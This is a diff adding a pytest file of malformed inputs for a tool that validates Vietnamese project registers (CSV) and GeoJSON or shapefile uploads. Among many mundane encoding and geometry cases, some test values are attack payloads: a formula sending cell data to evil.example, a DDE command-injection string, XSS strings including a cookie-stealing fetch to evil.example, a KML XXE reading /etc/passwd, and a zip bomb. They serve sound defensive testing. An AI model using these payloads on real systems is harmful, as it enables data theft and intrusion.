@@ -1,0 +1,438 @@
+"""The bad-input corpus (issue 5): broken files people will really feed the tool.
+
+Register cases are small copies built by ``make_register`` and then broken the way Excel, QGIS or a
+hurried edit breaks them. Each one asserts the exact rule it breaks and that the one-line message
+names the file, the row/id and the field, through ``validate()``, the CLI (in-process and as
+``python -m portfolio validate``) and the loader the app uses (``portfolio.register.load`` raising
+``RegisterError``, never anything else). Upload cases go through ``read_upload`` and must raise
+``UploadError`` naming the file. Hostile text (HTML, JavaScript) is not an error: it is kept verbatim.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import subprocess
+import sys
+import unicodedata
+import zipfile
+from collections.abc import Callable
+from concurrent.futures import ThreadPoolExecutor
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Any
+
+import geopandas as gpd
+import pytest
+from shapely.geometry import Point
+
+from portfolio import RegisterError, UploadError, schema
+from portfolio.cli import main
+from portfolio.register import load
+from portfolio.upload import MAX_UPLOAD_BYTES, read_upload
+from portfolio.validate import validate
+from tests.conftest import ROOT, MakeRegister, base_row, fixture_geometries, fixture_rows
+
+Break = Callable[[Path, Path], None]
+
+
+@dataclass(frozen=True)
+class Bad:
+    """A register broken in place by ``breaks(register, geodata)``."""
+
+    name: str
+    breaks: Break
+    rule: str
+    file: str  # "register" or "geodata"
+    where: str
+    field: str
+    also: tuple[str, ...] = field(default=())
+    rows: list[dict[str, str]] | None = None
+    geometries: dict[str, Any] | None = None
+
+
+# --- ways to break a register ----------------------------------------------------------------------
+
+def nothing(reg: Path, geo: Path) -> None:
+    """The break is in the rows or geometries the case builds the register with."""
+
+
+def register_text(reg: Path) -> str:
+    return reg.read_bytes().decode("utf-8")
+
+
+def rewrite(transform: Callable[[str], str | bytes]) -> Break:
+    def apply(reg: Path, geo: Path) -> None:
+        out = transform(register_text(reg))
+        reg.write_bytes(out if isinstance(out, bytes) else out.encode("utf-8"))
+
+    return apply
+
+
+def redelimit(sep: str) -> Break:
+    def apply(reg: Path, geo: Path) -> None:
+        rows = list(csv.reader(io.StringIO(register_text(reg), newline="")))
+        buffer = io.StringIO()
+        csv.writer(buffer, delimiter=sep).writerows(rows)
+        reg.write_text(buffer.getvalue(), encoding="utf-8", newline="")
+
+    return apply
+
+
+def drop_column(name: str) -> Break:
+    def apply(reg: Path, geo: Path) -> None:
+        rows = list(csv.reader(io.StringIO(register_text(reg), newline="")))
+        index = rows[0].index(name)
+        buffer = io.StringIO()
+        csv.writer(buffer).writerows([r[:index] + r[index + 1:] for r in rows])
+        reg.write_text(buffer.getvalue(), encoding="utf-8", newline="")
+
+    return apply
+
+
+def add_column(header: str, value: str = "") -> Break:
+    def apply(reg: Path, geo: Path) -> None:
+        rows = list(csv.reader(io.StringIO(register_text(reg), newline="")))
+        buffer = io.StringIO()
+        csv.writer(buffer).writerows([rows[0] + [header]] + [r + [value] for r in rows[1:]])
+        reg.write_text(buffer.getvalue(), encoding="utf-8", newline="")
+
+    return apply
+
+
+def rename_column(old: str, new: str) -> Break:
+    return rewrite(lambda text: text.replace(old, new, 1))
+
+
+def to_cp1258(text: str) -> bytes:
+    tones = "\u0300\u0301\u0303\u0309\u0323"
+    out = []
+    for char in unicodedata.normalize("NFC", text):
+        parts = unicodedata.normalize("NFD", char)
+        out.append(unicodedata.normalize("NFC", "".join(c for c in parts if c not in tones))
+                   + "".join(c for c in parts if c in tones))
+    return "".join(out).encode("cp1258")
+
+
+def geodata_json(transform: Callable[[dict[str, Any]], Any]) -> Break:
+    def apply(reg: Path, geo: Path) -> None:
+        path = geo / "projects.geojson"
+        doc = transform(json.loads(path.read_text(encoding="utf-8")))
+        path.write_text(doc if isinstance(doc, str) else json.dumps(doc), encoding="utf-8")
+
+    return apply
+
+
+def write_geodata_bytes(data: bytes) -> Break:
+    def apply(reg: Path, geo: Path) -> None:
+        (geo / "projects.geojson").write_bytes(data)
+
+    return apply
+
+
+def oversize(reg: Path, geo: Path) -> None:
+    with reg.open("r+b") as fh:
+        fh.truncate(50 * 1024 * 1024 + 1)  # sparse
+
+
+def xlsx_saved_as_csv(reg: Path, geo: Path) -> None:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as archive:
+        archive.writestr("[Content_Types].xml", "<Types/>")
+        archive.writestr("xl/workbook.xml", "<workbook/>")
+    reg.write_bytes(buffer.getvalue())
+
+
+def with_crs(name: str) -> Break:
+    return geodata_json(lambda doc: {**doc, "crs": {"type": "name", "properties": {"name": name}}})
+
+
+def duplicate_feature(doc: dict[str, Any]) -> dict[str, Any]:
+    return {**doc, "features": doc["features"] + [doc["features"][0]]}
+
+
+def rows_with(index: int = 0, **overrides: str) -> list[dict[str, str]]:
+    rows = fixture_rows()
+    rows[index] = {**rows[index], **overrides}
+    return rows
+
+
+def geometries_with(**overrides: Any) -> dict[str, Any]:
+    geoms = fixture_geometries()
+    for key, value in overrides.items():
+        key = key.replace("_", "-")
+        if value is None:
+            geoms.pop(key)
+        else:
+            geoms[key] = value
+    return geoms
+
+
+R1 = "row 1 (id dt-923)"
+R2 = "row 2 (id kcn-o-mon)"
+R3 = "row 3 (id cang-cai-cui)"
+LINE = fixture_geometries()["dt-923"]["coordinates"]
+
+CORPUS: list[Bad] = [
+    # structure and encoding
+    Bad("semicolon-delimiter-excel-vi", redelimit(";"), "wrong_delimiter", "register", "header", ""),
+    Bad("tab-delimiter", redelimit("\t"), "wrong_delimiter", "register", "header", ""),
+    Bad("ragged-row-unquoted-comma",
+        rewrite(lambda t: t.replace("Cảng Cái Cui,", "Cảng Cái Cui, Cái Răng,", 1)),
+        "ragged_row", "register", R3, "", also=("orphan_geometry",)),
+    Bad("ragged-row-short", rewrite(lambda t: t.replace("\r\nkcn-o-mon", "\r\nkcn-o-mon,x\r\nkcn-o-mon", 1)),
+        "ragged_row", "register", "row 2 (id kcn-o-mon)", ""),
+    Bad("utf8-bom-excel", rewrite(lambda t: b"\xef\xbb\xbf" + t.encode()), "bom", "register", "line 1", ""),
+    Bad("windows-1258", rewrite(to_cp1258), "not_utf8", "register", "line 2", ""),
+    Bad("latin-1", rewrite(lambda t: t.replace("Nâng cấp, mở rộng Đường tỉnh", "Nâng").encode("latin-1",
+                                                                                             "replace")),
+        "not_utf8", "register", "line 2", ""),
+    Bad("utf-16-unicode-text", rewrite(lambda t: t.encode("utf-16")), "not_utf8", "register", "line 1", ""),
+    Bad("xlsx-saved-as-csv", xlsx_saved_as_csv, "not_text", "register", "", ""),
+    Bad("empty-register", rewrite(lambda t: b""), "empty_file", "register", "", ""),
+    Bad("register-over-50mb", oversize, "too_large", "register", "", ""),
+    Bad("broken-quote", rewrite(lambda t: t.replace("Cảng Cái Cui", '"Cảng" Cái Cui', 1)), "csv_syntax",
+        "register", "line 4", ""),
+    Bad("nfd-vietnamese", nothing, "not_nfc", "register", R1, "name_vi",
+        rows=rows_with(name_vi=unicodedata.normalize("NFD", "Nâng cấp, mở rộng Đường tỉnh 923"))),
+    # columns
+    Bad("missing-column", drop_column("funding_type"), "missing_column", "register", "header",
+        "funding_type"),
+    Bad("duplicated-column", add_column("status", "planned"), "duplicate_column", "register", "header",
+        "status"),
+    Bad("unknown-column", add_column("budget_vnd", "1000"), "unknown_column", "register", "header",
+        "budget_vnd"),
+    Bad("column-name-with-space", rename_column(",status,", ", status,"), "unknown_column", "register",
+        "header", " status", also=("missing_column",)),
+    # years
+    Bad("year-as-text", nothing, "bad_year", "register", R1, "period_start",
+        rows=rows_with(period_start="năm 2021")),
+    Bad("year-as-excel-float", nothing, "bad_year", "register", R1, "period_end",
+        rows=rows_with(period_end="2025.0")),
+    Bad("start-after-end", nothing, "period_order", "register", R1, "period_start",
+        rows=rows_with(period_start="2030", period_end="2021")),
+    Bad("year-1890", nothing, "implausible_year", "register", R1, "period_start",
+        rows=rows_with(period_start="1890")),
+    Bad("year-2200", nothing, "implausible_year", "register", R1, "period_end",
+        rows=rows_with(period_end="2200")),
+    # vocabularies
+    Bad("unknown-status", nothing, "unknown_value", "register", R1, "status",
+        rows=rows_with(status="ongoing")),
+    Bad("status-as-vietnamese-label", nothing, "unknown_value", "register", R1, "status",
+        rows=rows_with(status="Đang thi công")),
+    Bad("unknown-sector", nothing, "unknown_value", "register", R1, "sector",
+        rows=rows_with(sector="highway")),
+    Bad("unknown-funding-type", nothing, "unknown_value", "register", R1, "funding_type",
+        rows=rows_with(funding_type="BOT")),
+    # ids
+    Bad("duplicate-id", nothing, "duplicate_id", "register", "row 2 (id dt-923)", "id",
+        rows=[base_row(), base_row(name_en="Copy of 923"), *fixture_rows()[1:]]),
+    Bad("empty-id", nothing, "required", "register", "row 1", "id", rows=rows_with(id=""),
+        also=("orphan_geometry",)),
+    # other cells
+    Bad("formula-hyperlink", nothing, "formula", "register", R1, "name_en",
+        rows=rows_with(name_en='=HYPERLINK("http://evil.example/?"&A1,"Đường 923")')),
+    Bad("formula-at-sum", nothing, "formula", "register", R2, "notes", rows=rows_with(1,
+        notes="@SUM(1+1)*cmd|' /C calc'!A0")),
+    Bad("date-dd-mm-yyyy", nothing, "bad_date", "register", R1, "status_as_of",
+        rows=rows_with(status_as_of="01/10/2021")),
+    Bad("decimal-comma", nothing, "bad_number", "register", R2, "official_area_ha",
+        rows=rows_with(1, official_area_ha="45,5")),
+    Bad("alt-enter-in-name", nothing, "control_char", "register", R1, "name_vi",
+        rows=rows_with(name_vi="Nâng cấp Đường tỉnh 923\n(giai đoạn 2)")),
+    # geometry
+    Bad("geometry-missing", nothing, "missing_geometry", "geodata", "id kcn-o-mon", "geometry",
+        geometries=geometries_with(kcn_o_mon=None)),
+    Bad("geometry-extra", nothing, "orphan_geometry", "geodata", "id cau-tran-hoang-na", "id",
+        geometries=geometries_with(cau_tran_hoang_na={"type": "Point", "coordinates": [105.77, 10.02]})),
+    Bad("geometry-duplicated", geodata_json(duplicate_feature), "duplicate_geometry", "geodata", "id dt-923",
+        "geometry"),
+    Bad("geometry-empty", nothing, "empty_geometry", "geodata", "id dt-923", "geometry",
+        geometries=geometries_with(dt_923={"type": "LineString", "coordinates": []})),
+    Bad("geometry-null", nothing, "missing_geometry", "geodata", "id cang-cai-cui", "geometry",
+        geometries=geometries_with(cang_cai_cui=None) | {"cang-cai-cui": None}),
+    Bad("self-intersecting-polygon", nothing, "invalid_geometry", "geodata", "id kcn-o-mon", "geometry",
+        geometries=geometries_with(kcn_o_mon={"type": "Polygon", "coordinates": [[
+            [105.60, 10.10], [105.62, 10.12], [105.62, 10.10], [105.60, 10.12], [105.60, 10.10]]]})),
+    Bad("unclosed-ring", nothing, "unclosed_ring", "geodata", "id kcn-o-mon", "geometry",
+        geometries=geometries_with(kcn_o_mon={"type": "Polygon", "coordinates": [[
+            [105.60, 10.10], [105.62, 10.10], [105.62, 10.12], [105.60, 10.12]]]})),
+    Bad("lat-lon-swapped", nothing, "swapped_coordinates", "geodata", "id dt-923", "geometry",
+        geometries=geometries_with(dt_923={"type": "LineString", "coordinates": [[y, x] for x, y in LINE]})),
+    Bad("vn2000-metres-labelled-wgs84", nothing, "projected_coordinates", "geodata", "id cang-cai-cui",
+        "geometry",
+        geometries=geometries_with(cang_cai_cui={"type": "Point", "coordinates": [593605.2, 1104877.9]})),
+    Bad("crs-member-vn2000-utm", with_crs("urn:ogc:def:crs:EPSG::3405"), "wrong_crs", "geodata", "", "crs"),
+    Bad("point-in-ha-noi", nothing, "outside_region", "geodata", "id cang-cai-cui", "geometry",
+        geometries=geometries_with(cang_cai_cui={"type": "Point", "coordinates": [105.8542, 21.0285]})),
+    Bad("road-drawn-as-polygon", nothing, "wrong_geometry_kind", "geodata", "id dt-923", "geometry",
+        geometries=geometries_with(dt_923=fixture_geometries()["kcn-o-mon"])),
+    Bad("empty-geodata", write_geodata_bytes(b""), "empty_file", "geodata", "", ""),
+    Bad("geodata-not-json", write_geodata_bytes(b"id,lon,lat\ndt-923,105.7,10.0\n"), "bad_json", "geodata",
+        "line 1", ""),
+]
+
+
+def build(case: Bad, make_register: MakeRegister) -> tuple[Path, Path]:
+    reg, geo = make_register(rows=case.rows, geometries=case.geometries)
+    case.breaks(reg, geo)
+    return reg, geo
+
+
+def expected_file(case: Bad, reg: Path, geo: Path) -> str:
+    return str(reg) if case.file == "register" else str(geo / "projects.geojson")
+
+
+def expected_line_start(case: Bad, reg: Path, geo: Path) -> str:
+    return ": ".join(part for part in (expected_file(case, reg, geo), case.where, case.field) if part) + ": "
+
+
+def test_corpus_size_and_names() -> None:
+    assert len(CORPUS) + len(UPLOADS) >= 30
+    assert len({c.name for c in CORPUS}) == len(CORPUS)
+
+
+@pytest.mark.parametrize("case", CORPUS, ids=[c.name for c in CORPUS])
+def test_validate(case: Bad, make_register: MakeRegister) -> None:
+    reg, geo = build(case, make_register)
+    problems = validate(reg, geo)
+    assert {p.rule for p in problems} <= {case.rule, *case.also}, [str(p) for p in problems]
+    matching = [p for p in problems if p.rule == case.rule]
+    assert matching, [str(p) for p in problems]
+    problem = matching[0]
+    assert (problem.file, problem.where, problem.field) == (expected_file(case, reg, geo), case.where,
+                                                            case.field)
+    line = str(problem)
+    assert line.startswith(expected_line_start(case, reg, geo))
+    assert line.endswith(f" [{case.rule}]")
+    assert "\n" not in line
+
+
+@pytest.mark.parametrize("case", CORPUS, ids=[c.name for c in CORPUS])
+def test_loader(case: Bad, make_register: MakeRegister) -> None:
+    reg, geo = build(case, make_register)
+    try:
+        load(reg, geo)
+    except RegisterError as exc:
+        assert case.rule in {p.rule for p in exc.problems}
+    else:
+        pytest.fail("load() accepted a broken register")
+
+
+@pytest.mark.parametrize("case", CORPUS, ids=[c.name for c in CORPUS])
+def test_cli_in_process(case: Bad, make_register: MakeRegister, capsys: pytest.CaptureFixture[str]) -> None:
+    reg, geo = build(case, make_register)
+    assert main(["validate", "--register", str(reg), "--geodata", str(geo)]) == 1
+    out = capsys.readouterr()
+    lines = out.err.splitlines()
+    assert lines[-1].endswith("problem(s) found")
+    assert any(line.startswith(expected_line_start(case, reg, geo)) and line.endswith(f"[{case.rule}]")
+               for line in lines), lines
+
+
+#: Cases also run as a real ``python -m portfolio validate`` process (about 1.5 s each to start), one or
+#: more of every kind; every case runs through the CLI in process above.
+SUBPROCESS = ("semicolon-delimiter-excel-vi", "windows-1258", "register-over-50mb", "xlsx-saved-as-csv",
+              "missing-column", "year-1890", "formula-hyperlink", "duplicate-id", "geometry-missing",
+              "lat-lon-swapped", "crs-member-vn2000-utm", "empty-geodata")
+
+
+def test_cli_subprocess(make_register: MakeRegister, tmp_path: Path) -> None:
+    """``python -m portfolio validate`` on corpus cases: exit 1, the line, no traceback."""
+    built = []
+    for case in (c for c in CORPUS if c.name in SUBPROCESS):
+        reg, geo = make_register(rows=case.rows, geometries=case.geometries, name=case.name)
+        case.breaks(reg, geo)
+        built.append((case, reg, geo))
+
+    def run(item: tuple[Bad, Path, Path]) -> tuple[Bad, Path, Path, subprocess.CompletedProcess[str]]:
+        case, reg, geo = item
+        argv = [sys.executable, "-m", "portfolio", "validate", "--register", str(reg), "--geodata", str(geo)]
+        result = subprocess.run(argv, capture_output=True, text=True, cwd=ROOT, timeout=300)
+        return case, reg, geo, result
+
+    assert len(built) == len(SUBPROCESS)
+    with ThreadPoolExecutor(max_workers=3) as pool:
+        results = list(pool.map(run, built))
+    for case, reg, geo, result in results:
+        assert result.returncode == 1, (case.name, result.stderr)
+        assert "Traceback" not in result.stderr + result.stdout, case.name
+        lines = result.stderr.splitlines()
+        assert any(line.startswith(expected_line_start(case, reg, geo)) and line.endswith(f"[{case.rule}]")
+                   for line in lines), (case.name, lines)
+
+
+def test_hostile_names_are_text_not_errors(make_register: MakeRegister) -> None:
+    """HTML and JavaScript in names are allowed, and kept byte for byte for the renderer to escape."""
+    hostile = {
+        "name_vi": '<script>alert("xss")</script> Đường 923',
+        "name_en": '<img src=x onerror="fetch(`//evil.example/${document.cookie}`)">',
+        "location_vi": "${alert(1)} </textarea><svg onload=alert(2)>",
+        "notes": "javascript:alert(3) &lt;b&gt; <!-- -->",
+    }
+    reg, geo = make_register(rows=rows_with(**hostile))
+    assert validate(reg, geo) == []
+    row = load(reg, geo).set_index("id").loc["dt-923"]
+    for column, value in hostile.items():
+        assert row[column] == value
+
+
+# --- uploads ---------------------------------------------------------------------------------------
+
+WGS = gpd.GeoDataFrame({"name": ["a"]}, geometry=[Point(105.7525, 10.0021)], crs="EPSG:4326")
+
+
+def _zip(members: dict[str, bytes]) -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, data in members.items():
+            archive.writestr(name, data)
+    return buffer.getvalue()
+
+
+def _shapefile_zip(tmp: Path, frame: gpd.GeoDataFrame, parts: tuple[str, ...]) -> bytes:
+    frame.to_file(tmp / "l.shp", driver="ESRI Shapefile")
+    return _zip({f"l.{ext}": (tmp / f"l.{ext}").read_bytes() for ext in parts})
+
+
+UPLOADS: list[tuple[str, str, Callable[[Path], bytes], str]] = [
+    ("zip-not-shapefile", "roads.zip", lambda tmp: _zip({"roads.xlsx": b"PK..", "README.txt": b"hi"}),
+     "zip_not_shapefile"),
+    ("kml-no-features", "empty.kml",
+     lambda tmp: b'<?xml version="1.0" encoding="UTF-8"?><kml xmlns="http://www.opengis.net/kml/2.2">'
+                 b"<Document><Folder><name>Layer</name></Folder></Document></kml>", "no_features"),
+    ("upload-over-limit", "huge.geojson", lambda tmp: b"{" + b" " * MAX_UPLOAD_BYTES + b"}", "too_large"),
+    ("upload-empty", "nothing.geojson", lambda tmp: b"", "empty_file"),
+    ("image-named-geojson", "map.geojson", lambda tmp: b"\x89PNG\r\n\x1a\n\x00\x00", "unknown_format"),
+    ("zip-bomb", "bomb.zip", lambda tmp: _zip({f"{i}.bin": b"\x00" * (30 << 20) for i in range(4)}),
+     "zip_bomb"),
+    ("kml-xxe", "xxe.kml", lambda tmp: b'<!DOCTYPE kml [<!ENTITY e SYSTEM "file:///etc/passwd">]><kml>&e;</kml>',
+     "unsafe_xml"),
+    ("shapefile-metres-no-prj", "vn2000.zip",
+     lambda tmp: _shapefile_zip(tmp, WGS.to_crs("EPSG:5897"), ("shp", "shx", "dbf")), "no_crs"),
+    ("geojson-metres-no-crs", "metres.geojson",
+     lambda tmp: json.dumps({"type": "Feature", "properties": {},
+                             "geometry": {"type": "Point", "coordinates": [593605.2, 1104877.9]}}).encode(),
+     "wrong_crs"),
+    ("json-not-geojson", "table.json", lambda tmp: b'[{"id": 1}]', "not_geojson"),
+    ("geojson-latin-1", "latin1.geojson",
+     lambda tmp: '{"type": "Feature", "properties": {"name": "Ô Môn"}, "geometry": null}'.encode("latin-1"),
+     "not_utf8"),
+    ("csv-upload", "projects.csv", lambda tmp: ",".join(schema.COLUMNS).encode(), "unknown_format"),
+]
+
+
+@pytest.mark.parametrize(("label", "filename", "make", "rule"), UPLOADS, ids=[u[0] for u in UPLOADS])
+def test_upload(label: str, filename: str, make: Callable[[Path], bytes], rule: str, tmp_path: Path) -> None:
+    data = make(tmp_path)
+    try:
+        read_upload(filename, data)
+    except UploadError as exc:
+        (problem,) = exc.problems
+        assert problem.rule == rule
+        assert problem.file == filename
+        assert str(exc).startswith(f"{filename}: ")
+        assert "\n" not in str(exc)
+    else:
+        pytest.fail(f"{label} was accepted")
